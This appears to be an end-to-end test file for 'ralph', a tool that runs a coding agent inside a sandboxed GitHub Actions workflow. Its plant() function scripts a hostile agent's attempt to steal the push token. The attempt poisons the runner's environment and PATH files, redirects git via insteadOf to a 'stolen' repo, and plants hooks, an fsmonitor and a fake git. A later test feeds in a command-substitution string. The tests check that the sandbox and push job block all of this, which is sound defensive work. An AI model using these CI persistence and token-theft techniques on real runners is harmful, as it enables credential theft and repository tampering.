import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FAKE_BIN_DIR, makeProject, PACKAGE_ROOT, RALPH_BIN, runRalph } from '../helpers/e2e.js';
import { simulateWorkflow, type SimulatedRun } from '../helpers/actions-runner.js';
import { readAsRunner } from '../helpers/workflow-commands.js';

const TOKEN = 'ghs_SimulatedPushToken0123456789';
const BRANCH = 'ralph/feature';

/** A project set up with `ralph init --ci github`, its task list on BRANCH, pushed to a bare "GitHub". */
async function dispatchedProject() {
  const repo = await makeProject({ git: 'committed' });
  expect((await runRalph(repo, ['init', '--ci', 'github'])).code).toBe(0);
  const stories = ['US-1', 'US-2'].map((id, index) => ({
    id,
    title: `Story ${id}`,
    priority: index + 1,
    passes: false,
  }));
  await repo.write('ralph/tasks.json', JSON.stringify({ project: 'App', branchName: BRANCH, stories }, null, 2));
  repo.git('add', '-A');
  repo.git('commit', '-qm', 'Set up ralph');
  const bare = mkdtempSync(join(tmpdir(), 'ralph-github-'));
  execFileSync('git', ['init', '-q', '--bare', bare]);
  repo.git('push', '-q', bare, 'HEAD:refs/heads/main');
  const sim = mkdtempSync(join(tmpdir(), 'ralph-sim-'));
  return { workflow: repo.read('.github/workflows/ralph.yml'), bare, sim, main: repo.git('rev-parse', 'HEAD') };
}

/** The registry stand-in: `npm install -g` puts the fake agent or the built ralph in npm's global bin. */
function fakeNpm(sim: string): string {
  const dir = join(sim, 'image-bin');
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'npm'),
    `#!/bin/sh
if [ "$1" = install ] && [ "$2" = -g ]; then
  bin="$RUNNER_TOOL_CACHE/npm-global/bin"; mkdir -p "$bin"
  case "$3" in
    @anthropic-ai/claude-code@*) printf '#!/bin/sh\\nexec %s "$@"\\n' ${JSON.stringify(join(FAKE_BIN_DIR, 'claude'))} > "$bin/claude"; chmod +x "$bin/claude" ;;
    *) printf '#!/bin/sh\\nexec node %s "$@"\\n' ${JSON.stringify(RALPH_BIN)} > "$bin/ralph"; chmod +x "$bin/ralph" ;;
  esac
  exit 0
fi
echo "fake npm: unexpected $*" >&2; exit 1
`,
  );
  chmodSync(join(dir, 'npm'), 0o755);
  // The image's sudo, for the box's install step: bubblewrap is on this machine already (the suite's
  // box tests need it), and the AppArmor switch is the real runner's alone.
  writeFileSync(
    join(dir, 'sudo'),
    `#!/bin/sh
case "$*" in
  "apt-get update -q" | "apt-get install -y -q bubblewrap" | "sysctl -w kernel.apparmor_restrict_unprivileged_userns=0") exit 0 ;;
esac
echo "fake sudo: unexpected $*" >&2; exit 1
`,
  );
  chmodSync(join(dir, 'sudo'), 0o755);
  return dir;
}

/**
 * The agent's stand-in script, in a folder of its own: the stand-in records its calls beside it,
 * so that folder alone is added to the box (as a user would add a folder their agent needs).
 */
function agentScript(sim: string): string {
  mkdirSync(join(sim, 'agent'), { recursive: true });
  return join(sim, 'agent', 'agent-script.json');
}

function agentEnv(script: string) {
  // The stand-in client lives in this checkout, which may itself lie in /tmp (CI's clone), a folder
  // the box empties: it is shown read-only, as a user would add a folder their client needs.
  return { RALPH_AGENT_SCRIPT: script, RALPH_BOX_WRITE: dirname(script), RALPH_BOX_READ_ONLY: PACKAGE_ROOT };
}

/** What the hostile agent plants: each script records where it ran, and whether it saw the token, in the step log. */
function plant(sim: string, log: string) {
  const evil = join(sim, 'evil');
  mkdirSync(join(evil, 'bin'), { recursive: true });
  mkdirSync(join(evil, 'hooks'), { recursive: true });
  const record = (what: string) =>
    `echo "ran: ${what} $* token=$(env | grep -c ${TOKEN}) cfg=$(cat .git/config 2>/dev/null | grep -c ${TOKEN})" >> ${log}\n`;
  writeFileSync(join(evil, 'bashenv.sh'), record('BASH_ENV'));
  writeFileSync(join(evil, 'bin/git'), `#!/bin/sh\n${record('git')}exec /usr/bin/git "$@"\n`);
  writeFileSync(join(evil, 'fsmonitor'), `#!/bin/sh\n${record('fsmonitor')}exit 1\n`);
  writeFileSync(join(evil, 'hooks/pre-push'), `#!/bin/sh\n${record('pre-push')}exit 0\n`);
  for (const file of ['bin/git', 'fsmonitor', 'hooks/pre-push']) chmodSync(join(evil, file), 0o755);
  const stolen = join(sim, 'stolen.git');
  execFileSync('git', ['init', '-q', '--bare', stolen]);
  const attack = [
    // The runner's file commands, found where they live even when ralph keeps the variables from the agent.
    `for f in "$RUNNER_TEMP"/_runner_file_commands/set_env_*; do printf 'BASH_ENV=%s\\nPOISON<<EOF\\nmulti\\nline\\nEOF\\n' ${evil}/bashenv.sh >> "$f"; done`,
    `for f in "$RUNNER_TEMP"/_runner_file_commands/add_path_*; do echo ${evil}/bin >> "$f"; done`,
    `if [ -n "$GITHUB_ENV" ]; then echo BASH_ENV=${evil}/bashenv.sh >> "$GITHUB_ENV"; fi`,
    `if [ -n "$GITHUB_PATH" ]; then echo ${evil}/bin >> "$GITHUB_PATH"; fi`,
    `git config --global url.${stolen}.insteadOf https://`,
    `git config --global url.${stolen}.pushInsteadOf https://`,
    `git config --global core.hooksPath ${evil}/hooks`,
    `git config core.fsmonitor ${evil}/fsmonitor`,
    `cp ${evil}/hooks/pre-push .git/hooks/pre-push`,
    // A git of its own in npm's global bin, a folder on the job's PATH.
    `cp ${evil}/bin/git "$(dirname "$(command -v ralph)")/git"`,
  ];
  // Each is tried whatever became of the one before: the box refuses most of them.
  return { attack: attack.map((command) => `${command} || true`), stolen };
}

function runOptions(project: Awaited<ReturnType<typeof dispatchedProject>>, extra: Partial<SimulatedRun> = {}) {
  const log = join(project.sim, 'steps.log');
  writeFileSync(log, '');
  const run: SimulatedRun = {
    github: { bare: project.bare, ref: 'main', token: TOKEN },
    inputs: { 'open-pr': false, 'claude-code-version': '2.1.332' },
    secrets: { ANTHROPIC_API_KEY: 'sk-ant-simulated' },
    imagePath: [fakeNpm(project.sim), '{runner}/npm-global/bin'],
    stepLog: log,
    ...extra,
  };
  return { run, log };
}

const head = (bare: string, ref: string) =>
  spawnSync('git', ['rev-parse', '--verify', '--quiet', ref], { cwd: bare, encoding: 'utf8' }).stdout.trim();

/** Each `ran:` line of the step log, with the step it ran in. */
function plantedRuns(log: string): { step: string; line: string }[] {
  let step = '';
  const runs: { step: string; line: string }[] = [];
  for (const line of readFileSync(log, 'utf8').split('\n')) {
    if (line.startsWith('== ')) step = line.slice(3);
    else if (line.startsWith('ran: ')) runs.push({ step, line });
  }
  return runs;
}

describe('the generated workflow, run job by job as the runner runs it', () => {
  it('a hostile agent steals no token: nothing it planted runs after its step, and its commits reach the branch', async () => {
    const project = await dispatchedProject();
    const { run, log } = runOptions(project);
    const { attack, stolen } = plant(project.sim, log);
    const script = agentScript(project.sim);
    writeFileSync(
      script,
      JSON.stringify([{ shell: attack, implement: true, say: '<promise>BLOCKED:the API key is missing</promise>' }]),
    );
    run.imageEnv = { ...agentEnv(script), IS_SANDBOX: '1', RALPH_SKIP_REVIEW: '1', NO_COLOR: '1' };

    const result = simulateWorkflow(project.workflow, run);
    const outcome = (job: string, name: string) => result.steps.find((s) => s.job === job && s.name === name);
    const ralph = outcome('agent', 'Run ralph');
    expect(ralph?.outcome, `${ralph?.stdout}\n${ralph?.stderr}`).toBe('success');
    expect(result.jobs.agent).toMatchObject({ result: 'success', outputs: { branch: BRANCH, code: '2' } });
    // A step after the agent's ran (BLOCKED): it would have read a BASH_ENV the agent set.
    expect(outcome('agent', 'Link the report from the job summary')?.outcome).toBe('success');
    // One annotation for the BLOCKED, ralph's, saying how to answer in this workflow.
    const annotations = readAsRunner(ralph?.stdout ?? '').obeyed.filter((command) => command.name === 'warning');
    expect(annotations.map((command) => command.data)).toEqual([
      'ralph: BLOCKED (exit 2): the API key is missing — run this workflow again with the answer input',
    ]);

    // The agent's commit is on the branch, pushed by the push job; nothing reached its server.
    expect(result.jobs.push?.result).toBe('success');
    const pushed = head(project.bare, `refs/heads/${BRANCH}`);
    expect(pushed).not.toBe('');
    // The agent's commit, then ralph/blocked.txt committed for the answer input to find.
    expect(head(project.bare, `${pushed}~2`)).toBe(project.main);
    expect(execFileSync('git', ['for-each-ref'], { cwd: stolen, encoding: 'utf8' })).toBe('');

    // What the agent planted ran only inside its own step, never with the token, never to make the bundle.
    // The workflow runs the agent in the box, which refuses nearly every plant outright (the box's own
    // suite shows each refusal); whatever it could plant, ran only in its own step.
    const runs = plantedRuns(log);
    expect(runs.filter((r) => r.step !== 'agent/Run ralph')).toEqual([]);
    expect(runs.filter((r) => !r.line.endsWith('token=0 cfg=0'))).toEqual([]);
    expect(
      runs.filter((r) => /\b(bundle|hash-object|update-index|write-tree|commit-tree|update-ref)\b/.test(r.line)),
    ).toEqual([]);
    expect(readFileSync(log, 'utf8')).not.toContain(TOKEN);
    expect(result.jobs['pull-request']?.result).toBe('skipped');
    // The logs artifact, without the raw transcripts.
    expect(existsSync(join(result.artifacts, 'ralph-logs/logs/summary.csv'))).toBe(true);
  }, 120_000);
});

describe('a COMPLETE run with open-pr', () => {
  it('pushes the branch, then opens the pull request from a job of its own, naming the repository', async () => {
    const project = await dispatchedProject();
    const { run } = runOptions(project);
    run.inputs['open-pr'] = true;
    const gh = join(project.sim, 'gh-bin');
    mkdirSync(gh);
    const calls = join(project.sim, 'gh-calls');
    writeFileSync(join(gh, 'gh'), `#!/bin/sh\necho "$* token=$GH_TOKEN cwd=$PWD" >> ${calls}\n`);
    chmodSync(join(gh, 'gh'), 0o755);
    run.imagePath.push(gh);
    const script = agentScript(project.sim);
    writeFileSync(script, JSON.stringify([{ implement: true, completeWhenDone: true }]));
    run.imageEnv = { ...agentEnv(script), IS_SANDBOX: '1', RALPH_SKIP_REVIEW: '1', NO_COLOR: '1' };

    const result = simulateWorkflow(project.workflow, run);
    expect(result.jobs.agent?.outputs.code).toBe('0');
    expect(head(project.bare, `refs/heads/${BRANCH}~2`)).toBe(project.main);
    expect(result.jobs['pull-request']?.result).toBe('success');
    const lines = readFileSync(calls, 'utf8').trim().split('\n');
    expect(lines[0]).toMatch(new RegExp(`^pr list --repo owner/repo --head ${BRANCH} .* token=${TOKEN} `));
    expect(lines[1]).toMatch(
      /^pr create --repo owner\/repo --head ralph\/feature --base main --title ralph: ralph\/feature --body The commits of ralph's run https:\/\/github\.example\/owner\/repo\/actions\/runs\/4242 /,
    );
  }, 120_000);
});

describe('the push job refuses a bundle that does more than add commits to the branch', () => {
  /** A clone of "GitHub", where the test plays the agent's job and hands over what it likes. */
  async function handOver(
    make: (git: (...args: string[]) => string, bundle: string) => void,
    options: { start?: string; existing?: boolean } = {},
  ) {
    const project = await dispatchedProject();
    const work = mkdtempSync(join(tmpdir(), 'ralph-agent-'));
    execFileSync('git', ['clone', '-q', '--branch', 'main', project.bare, work]);
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...args], {
        cwd: work,
        encoding: 'utf8',
      }).trim();
    git('checkout', '-q', '-b', BRANCH);
    if (options.existing) {
      // An earlier run's work, already on GitHub: this run starts from it.
      commit(git, 'an earlier run');
      git('push', '-q', 'origin', BRANCH);
    }
    const start = options.start ?? git('rev-parse', 'HEAD');
    const artifacts = mkdtempSync(join(tmpdir(), 'ralph-sim-artifacts-'));
    const dir = join(artifacts, 'ralph-bundle');
    mkdirSync(dir);
    writeFileSync(join(dir, 'start'), `${start}\n`);
    make(git, join(dir, 'commits.bundle'));
    const { run } = runOptions(project, {
      only: ['push'],
      artifacts,
      needs: { agent: { result: 'success', outputs: { branch: BRANCH, code: '0' } } },
    });
    const result = simulateWorkflow(project.workflow, run);
    const check = result.steps.find((s) => s.name === "Check the agent's commits");
    return {
      project,
      start,
      result,
      check,
      refs: execFileSync('git', ['for-each-ref'], { cwd: project.bare, encoding: 'utf8' }),
    };
  }

  const commit = (git: (...args: string[]) => string, message: string) =>
    git('commit', '-q', '--allow-empty', '-m', message);

  it('pushes a bundle of new commits on the branch (no force)', async () => {
    const { result, project } = await handOver((git, bundle) => {
      commit(git, 'story');
      git('bundle', 'create', '-q', bundle, `refs/heads/${BRANCH}`, `^${git('rev-parse', 'HEAD~1')}`);
    });
    expect(result.jobs.push?.result).toBe('success');
    expect(head(project.bare, `refs/heads/${BRANCH}~1`)).toBe(project.main);
  });

  it.each([
    [
      'a tag besides the branch',
      (git: (...args: string[]) => string, bundle: string) => {
        commit(git, 'story');
        git('tag', 'v9');
        git('bundle', 'create', '-q', bundle, `refs/heads/${BRANCH}`, 'refs/tags/v9', '^HEAD~1');
      },
      /must hold exactly refs\/heads\/ralph\/feature/,
    ],
    [
      'another branch',
      (git: (...args: string[]) => string, bundle: string) => {
        commit(git, 'story');
        git('branch', 'evil');
        git('bundle', 'create', '-q', bundle, 'refs/heads/evil', '^HEAD~1');
      },
      /must hold exactly refs\/heads\/ralph\/feature/,
    ],
    [
      'a rewritten history',
      (git: (...args: string[]) => string, bundle: string) => {
        git('checkout', '-q', '--orphan', 'tmp');
        commit(git, 'a new root');
        git('branch', '-f', BRANCH, 'HEAD');
        git('bundle', 'create', '-q', bundle, `refs/heads/${BRANCH}`);
      },
      /does not add commits on top of/,
    ],
    [
      'no new commit at all',
      (git: (...args: string[]) => string, bundle: string) => {
        git('bundle', 'create', '-q', bundle, `refs/heads/${BRANCH}`);
      },
      /does not add commits on top of/,
    ],
  ])(
    'refuses %s, and pushes nothing',
    async (_what, make, message) => {
      const { result, check, refs } = await handOver(make);
      expect(result.jobs.push?.result).toBe('failure');
      expect(check?.outcome).toBe('failure');
      expect(check?.stdout).toMatch(/::error title=ralph: bundle refused::/);
      expect(check?.stdout).toMatch(message);
      expect(refs).not.toMatch(/ralph\/feature|v9|evil/);
    },
    60_000,
  );

  it('continues a branch GitHub already has, and refuses to rewrite it', async () => {
    const continued = await handOver(
      (git, bundle) => {
        commit(git, 'story');
        git('bundle', 'create', '-q', bundle, `refs/heads/${BRANCH}`, '^HEAD~1');
      },
      { existing: true },
    );
    expect(continued.result.jobs.push).toEqual({ result: 'success', outputs: { ready: 'true' } });
    expect(head(continued.project.bare, `refs/heads/${BRANCH}~1`)).toBe(continued.start);
    // The agent resets the branch to main and commits there: a force-push in disguise.
    const rewritten = await handOver(
      (git, bundle) => {
        git('reset', '-q', '--hard', 'HEAD~1');
        commit(git, 'instead of the earlier run');
        git('bundle', 'create', '-q', bundle, `refs/heads/${BRANCH}`, '^HEAD~1');
      },
      { existing: true },
    );
    expect(rewritten.result.jobs.push?.result).toBe('failure');
    expect(rewritten.check?.stdout).toMatch(/bundle refused::/);
    expect(head(rewritten.project.bare, `refs/heads/${BRANCH}`)).toBe(rewritten.start);
  }, 60_000);

  it('refuses a start that is not where the task list says the branch starts', async () => {
    const { result, check } = await handOver(
      (git, bundle) => {
        commit(git, 'story');
        git('bundle', 'create', '-q', bundle, `refs/heads/${BRANCH}`, '^HEAD~1');
      },
      { start: '0'.repeat(40) },
    );
    expect(result.jobs.push?.result).toBe('failure');
    expect(check?.stdout).toMatch(/started ralph\/feature at another commit/);
  });

  it('says there is nothing to push when the agent made no commits', async () => {
    const { result, check, refs } = await handOver(() => undefined);
    expect(result.jobs.push).toEqual({ result: 'success', outputs: { ready: '' } });
    expect(check?.stdout).toContain('The run made no commits: nothing to push.');
    expect(refs).not.toContain(BRANCH);
  });
});

describe('the answer input: a DECIDE answered from the dispatch form', () => {
  const show = (bare: string, what: string) => spawnSync('git', ['show', what], { cwd: bare, encoding: 'utf8' }).stdout;

  it('the waiting run puts decide.txt on the branch; a run with the answer commits it and the loop goes on', async () => {
    const project = await dispatchedProject();
    const script = agentScript(project.sim);
    writeFileSync(
      script,
      JSON.stringify([
        { say: '<promise>DECIDE:WebSockets or polling?</promise>' },
        { implement: true, completeWhenDone: true },
      ]),
    );
    const imageEnv = { ...agentEnv(script), IS_SANDBOX: '1', RALPH_SKIP_REVIEW: '1', NO_COLOR: '1' };

    const { run: waiting } = runOptions(project);
    waiting.imageEnv = imageEnv;
    const first = simulateWorkflow(project.workflow, waiting);
    expect(first.jobs.agent?.outputs.code).toBe('3');
    expect(first.jobs.push?.result).toBe('success');
    expect(show(project.bare, `refs/heads/${BRANCH}:ralph/decide.txt`)).toMatch(
      /WebSockets or polling\?\n\n---\n## Answer\n$/,
    );
    expect(show(project.bare, `refs/heads/${BRANCH}~1`)).toBe(show(project.bare, project.main));
    // The report, linked from the job summary.
    const link = first.steps.find((step) => step.name === 'Link the report from the job summary');
    expect(link?.summary).toContain(
      '[ralph-report (report.html)](https://github.example/owner/repo/actions/runs/4242/artifacts/ralph-report)',
    );
    expect(existsSync(join(first.artifacts, 'ralph-report/report.html'))).toBe(true);

    // The answer is the user's text: quotes, a command substitution and a leading dash stay text.
    const canary = join(project.sim, 'pwned');
    const answer = `-- Polling, every 5 s; not "$HOME" nor $(touch ${canary}) nor \`touch ${canary}\`.`;
    const { run: answering } = runOptions(project, {
      inputs: { 'open-pr': false, 'claude-code-version': '2.1.332', answer },
    });
    answering.imageEnv = imageEnv;
    const second = simulateWorkflow(project.workflow, answering);
    const step = second.steps.find((s) => s.name === 'Answer the loop (the answer input)');
    expect(step?.outcome, `${step?.stdout}\n${step?.stderr}`).toBe('success');
    expect(second.jobs.agent?.outputs.code).toBe('0');
    expect(existsSync(canary)).toBe(false);
    // The answer commit, then the agent's two stories, pushed through the bundle.
    expect(second.jobs.push?.result).toBe('success');
    const answered = `refs/heads/${BRANCH}~2`;
    expect(show(project.bare, `${answered}:ralph/decide.txt`)).toMatch(
      new RegExp(`---\\n## Answer\\n${answer.replace(/[$()`.\\[\]?*+^|{}]/g, '\\$&')}\\n$`),
    );
    expect(
      spawnSync('git', ['log', '-1', '--format=%s', answered], { cwd: project.bare, encoding: 'utf8' }).stdout,
    ).toBe("ralph: a human's answer (the answer input)\n");
    const prompt = (JSON.parse(readFileSync(`${script}.call-2.json`, 'utf8')) as { prompt: string }).prompt;
    expect(prompt).toContain(`  Your question:\n    > WebSockets or polling?\n  The answer:\n    > ${answer}`);
  }, 180_000);

  it('a BLOCKED: the answer goes into progress.txt, blocked.txt leaves the branch, and the loop goes on', async () => {
    const project = await dispatchedProject();
    const script = agentScript(project.sim);
    writeFileSync(
      script,
      JSON.stringify([
        { say: '<promise>BLOCKED:the staging key is missing</promise>' },
        { implement: true, completeWhenDone: true },
      ]),
    );
    const imageEnv = { ...agentEnv(script), IS_SANDBOX: '1', RALPH_SKIP_REVIEW: '1', NO_COLOR: '1' };
    const { run: waiting } = runOptions(project);
    waiting.imageEnv = imageEnv;
    expect(simulateWorkflow(project.workflow, waiting).jobs.agent?.outputs.code).toBe('2');
    expect(show(project.bare, `refs/heads/${BRANCH}:ralph/blocked.txt`)).toContain('the staging key is missing');

    const { run: answering } = runOptions(project, {
      inputs: { 'open-pr': false, 'claude-code-version': '2.1.332', answer: 'STAGING_KEY is set now.' },
    });
    answering.imageEnv = imageEnv;
    const result = simulateWorkflow(project.workflow, answering);
    expect(result.jobs.agent?.outputs.code).toBe('0');
    expect(result.jobs.push?.result).toBe('success');
    const answered = `refs/heads/${BRANCH}~2`;
    expect(show(project.bare, `${answered}:ralph/progress.txt`)).toMatch(
      /> the staging key is missing\n\nResolution:\nSTAGING_KEY is set now\.\n$/,
    );
    const tree = spawnSync('git', ['ls-tree', '-r', '--name-only', `refs/heads/${BRANCH}`], {
      cwd: project.bare,
      encoding: 'utf8',
    }).stdout;
    expect(tree).not.toContain('ralph/blocked.txt');
  }, 180_000);

  it('a dispatch with an answer and nothing waiting fails in the answer step, before any agent', async () => {
    const project = await dispatchedProject();
    const script = agentScript(project.sim);
    writeFileSync(script, JSON.stringify([{ implement: true, completeWhenDone: true }]));
    const { run } = runOptions(project, {
      inputs: { 'open-pr': false, 'claude-code-version': '2.1.332', answer: 'Yes.' },
    });
    run.imageEnv = { ...agentEnv(script), IS_SANDBOX: '1', RALPH_SKIP_REVIEW: '1', NO_COLOR: '1' };
    const result = simulateWorkflow(project.workflow, run);
    const step = result.steps.find((s) => s.name === 'Answer the loop (the answer input)');
    expect(step?.outcome).toBe('failure');
    expect(step?.stderr).toContain('ralph: nothing to answer');
    expect(result.steps.find((s) => s.name === 'Run ralph')?.outcome).toBe('skipped');
    expect(existsSync(`${script}.calls`)).toBe(false);
    expect(head(project.bare, `refs/heads/${BRANCH}`)).toBe('');
  }, 120_000);
});
